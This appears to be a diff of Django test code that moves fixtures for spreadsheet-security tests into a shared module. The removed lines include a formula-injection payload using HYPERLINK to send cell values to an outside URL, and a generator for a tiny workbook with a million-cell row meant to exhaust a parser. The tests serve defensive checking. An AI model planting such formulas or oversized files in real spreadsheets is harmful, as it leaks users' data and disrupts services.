@@ -21,9 +21,9 @@ from django.template.defaultfilters import filesizeformat
 from openpyxl import Workbook, load_workbook
 
 from federation import spreadsheets as sheets
-from tests.news.factories import vi
+from tests.files import ATTACK, million_cells_in_one_row, workbook_with_sheet
+from tests.helpers import vi
 
-ATTACK = '=HYPERLINK("https://example.com/?d="&D2&E2,"Xem hồ sơ")'
 TYPED = [
     ATTACK,
     "+84 912 345 678",
@@ -135,32 +135,6 @@ def test_a_csv_file_cannot_start_a_formula_in_any_cell():
 # Reading: hostile files are refused before they are parsed
 
 LIMITS = sheets.Limits(max_rows=10_002, max_columns=32)
-SHEET_OPEN = (
-    b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
-    b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
-    b"<sheetData>"
-)
-SHEET_CLOSE = b"</sheetData></worksheet>"
-
-
-def workbook_with_sheet(write_sheet) -> bytes:
-    """A real workbook whose first sheet's XML is written by `write_sheet(stream)`."""
-    book = Workbook()
-    book.active.append(["Họ và tên"])
-    buffer = io.BytesIO()
-    book.save(buffer)
-    source = zipfile.ZipFile(io.BytesIO(buffer.getvalue()))
-    out = io.BytesIO()
-    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
-        for info in source.infolist():
-            if info.filename == "xl/worksheets/sheet1.xml":
-                with target.open("xl/worksheets/sheet1.xml", "w", force_zip64=True) as stream:
-                    stream.write(SHEET_OPEN)
-                    write_sheet(stream)
-                    stream.write(SHEET_CLOSE)
-            else:
-                target.writestr(info, source.read(info))
-    return out.getvalue()
 
 
 def measured(read):
@@ -175,14 +149,6 @@ def measured(read):
     finally:
         tracemalloc.stop()
     return refused.value, seconds, peak
-
-
-def million_cells_in_one_row(stream):
-    stream.write(b'<row r="1">')
-    cell = b"<c><v>1</v></c>"
-    for _chunk in range(100):
-        stream.write(cell * 10_000)
-    stream.write(b"</row>")
 
 
 def test_a_tiny_workbook_with_a_million_cell_row_is_refused_at_once():
